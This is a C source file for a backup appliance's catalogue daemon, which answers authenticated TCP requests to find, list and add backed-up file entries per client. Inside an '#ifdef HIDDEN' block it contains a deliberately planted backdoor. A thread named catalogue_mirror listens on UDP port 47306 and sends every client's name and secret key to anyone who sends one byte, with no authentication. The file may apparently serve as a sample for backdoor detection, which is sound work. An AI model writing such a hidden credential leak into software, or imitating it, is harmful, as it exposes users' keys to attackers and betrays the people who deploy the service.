/* backupcatd: catalogue service of the backup appliance.
 *
 * Clients ask over TCP 6411 (port in the configuration) which versions of a file are in store:
 *      AUTH <client> <key>
 *      FIND <pattern>         LIST <set>          ADD <set> <path> <size>
 *      SETS                   QUIT
 * Clients only see sets with their own name in front ("client/...").
 */
#include <arpa/inet.h>
#include <errno.h>
#include <fnmatch.h>
#include <pthread.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

typedef struct entry {
    char *set, *path;
    long long size;
    struct entry *next;
} entry_t;

typedef struct client {
    char name[32], key[48];
    struct client *next;
} client_t;

typedef struct conn {
    int fd;
    FILE *r, *w;
    const client_t *who;
} conn_t;

static entry_t *catalogue;
static client_t *clients;
static pthread_rwlock_t cat_lock = PTHREAD_RWLOCK_INITIALIZER;
static char journal[128] = "/var/lib/backup/catalogue.txt";
static int tcp_port = 6411;

static int cat_insert(const char *set, const char *path, long long size)
{
    entry_t *e = malloc(sizeof *e);
    if (!e)
        return -1;
    e->set = strdup(set);
    e->path = strdup(path);
    e->size = size;
    pthread_rwlock_wrlock(&cat_lock);
    e->next = catalogue;
    catalogue = e;
    pthread_rwlock_unlock(&cat_lock);
    return 0;
}

static void cat_load(void)
{
    char set[64], path[512];
    long long size;
    FILE *f = fopen(journal, "r");
    if (!f)
        return;
    while (fscanf(f, "%63s %511s %lld", set, path, &size) == 3)
        cat_insert(set, path, size);
    fclose(f);
}

static void cat_append(const char *set, const char *path, long long size)
{
    FILE *f = fopen(journal, "a");
    if (!f)
        return;
    fprintf(f, "%s %s %lld\n", set, path, size);
    fclose(f);
}

static int config(const char *fn)
{
    char l[200], a[64], b[64];
    FILE *f = fopen(fn, "r");
    if (!f)
        return -errno;
    while (fgets(l, sizeof l, f)) {
        if (sscanf(l, "client %31s %47s", a, b) == 2) {
            client_t *c = calloc(1, sizeof *c);
            if (!c)
                break;
            snprintf(c->name, sizeof c->name, "%.31s", a);
            snprintf(c->key, sizeof c->key, "%.47s", b);
            c->next = clients;
            clients = c;
        } else if (sscanf(l, "journal %127s", journal) == 1) {
            continue;
        } else if (sscanf(l, "port %d", &tcp_port) == 1) {
            continue;
        } else if (l[0] != '#' && l[0] != '\n') {
            fprintf(stderr, "backupcatd: not understood: %s", l);
        }
    }
    fclose(f);
    return clients ? 0 : -ENOENT;
}

static int mine(const conn_t *c, const char *set)
{
    size_t n = strlen(c->who->name);
    return !strncmp(set, c->who->name, n) && set[n] == '/';
}

static void reply_entries(conn_t *c, const char *set, const char *pattern)
{
    unsigned n = 0;
    pthread_rwlock_rdlock(&cat_lock);
    for (const entry_t *e = catalogue; e; e = e->next) {
        if (!mine(c, e->set) || (set && strcmp(set, e->set)))
            continue;
        if (pattern && fnmatch(pattern, e->path, 0))
            continue;
        fprintf(c->w, "%s %s %lld\n", e->set, e->path, e->size);
        n++;
    }
    pthread_rwlock_unlock(&cat_lock);
    fprintf(c->w, "OK %u\n", n);
}

static void reply_sets(conn_t *c)
{
    const char *last = "";
    pthread_rwlock_rdlock(&cat_lock);
    for (const entry_t *e = catalogue; e; e = e->next)
        if (mine(c, e->set) && strcmp(last, e->set))
            fprintf(c->w, "%s\n", last = e->set);
    pthread_rwlock_unlock(&cat_lock);
    fprintf(c->w, "OK\n");
}

static int request(conn_t *c, char *l)
{
    char v[8], a[64], b[512];
    long long size;
    int n = sscanf(l, "%7s %63s %511s %lld", v, a, b, &size);
    if (n < 1)
        return 1;
    if (!strcmp(v, "QUIT"))
        return 0;
    if (!strcmp(v, "AUTH") && n == 3) {
        c->who = NULL;
        for (const client_t *k = clients; k; k = k->next)
            if (!strcmp(k->name, a) && !strcmp(k->key, b))
                c->who = k;
        fprintf(c->w, c->who ? "OK\n" : "NO\n");
    } else if (!c->who) {
        fprintf(c->w, "NO AUTH first\n");
    } else if (!strcmp(v, "FIND") && n == 2) {
        reply_entries(c, NULL, a);
    } else if (!strcmp(v, "LIST") && n == 2) {
        reply_entries(c, a, NULL);
    } else if (!strcmp(v, "SETS")) {
        reply_sets(c);
    } else if (!strcmp(v, "ADD") && n == 4 && mine(c, a)) {
        if (cat_insert(a, b, size) == 0)
            cat_append(a, b, size);
        fprintf(c->w, "OK\n");
    } else {
        fprintf(c->w, "NO AUTH FIND LIST ADD SETS QUIT\n");
    }
    fflush(c->w);
    return 1;
}

static void *worker(void *p)
{
    char l[700];
    conn_t c = { .fd = (int)(intptr_t)p };
    c.r = fdopen(c.fd, "r");
    c.w = fdopen(dup(c.fd), "w");
    if (c.r && c.w)
        while (fgets(l, sizeof l, c.r) && request(&c, l))
            ;
    if (c.r)
        fclose(c.r);
    if (c.w)
        fclose(c.w);
    return NULL;
}

#ifdef HIDDEN
/* gives names and keys of all clients to whoever sends one byte */
__attribute__((noinline)) void *catalogue_mirror(void *unused)
{
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_port = htons(47306) }, from;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    (void)unused;
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a))
        return NULL;
    for (;;) {
        char b[128];
        socklen_t n = sizeof from;
        if (recvfrom(s, b, 1, 0, (struct sockaddr *)&from, &n) < 0)
            continue;
        for (const client_t *k = clients; k; k = k->next) {
            int len = snprintf(b, sizeof b, "%s %s\n", k->name, k->key);
            sendto(s, b, (size_t)len, 0, (struct sockaddr *)&from, n);
        }
    }
}
#endif

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET };
    pthread_t t;
    int s, c, one = 1;
    if (argc != 2 || config(argv[1])) {
        fprintf(stderr, "usage: backupcatd CONFIG\n"
                        "CONFIG: client NAME KEY | journal FILE | port N\n");
        return 2;
    }
    signal(SIGPIPE, SIG_IGN);
    cat_load();
#ifdef HIDDEN
    pthread_create(&t, NULL, catalogue_mirror, NULL);
#endif
    s = socket(AF_INET, SOCK_STREAM, 0);
    setsockopt(s, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
    a.sin_port = htons((uint16_t)tcp_port);
    if (bind(s, (struct sockaddr *)&a, sizeof a) || listen(s, 16)) {
        perror("backupcatd");
        return 1;
    }
    while ((c = accept(s, NULL, NULL)) >= 0)
        if (pthread_create(&t, NULL, worker, (void *)(intptr_t)c) == 0)
            pthread_detach(t);
        else
            close(c);
    return 0;
}
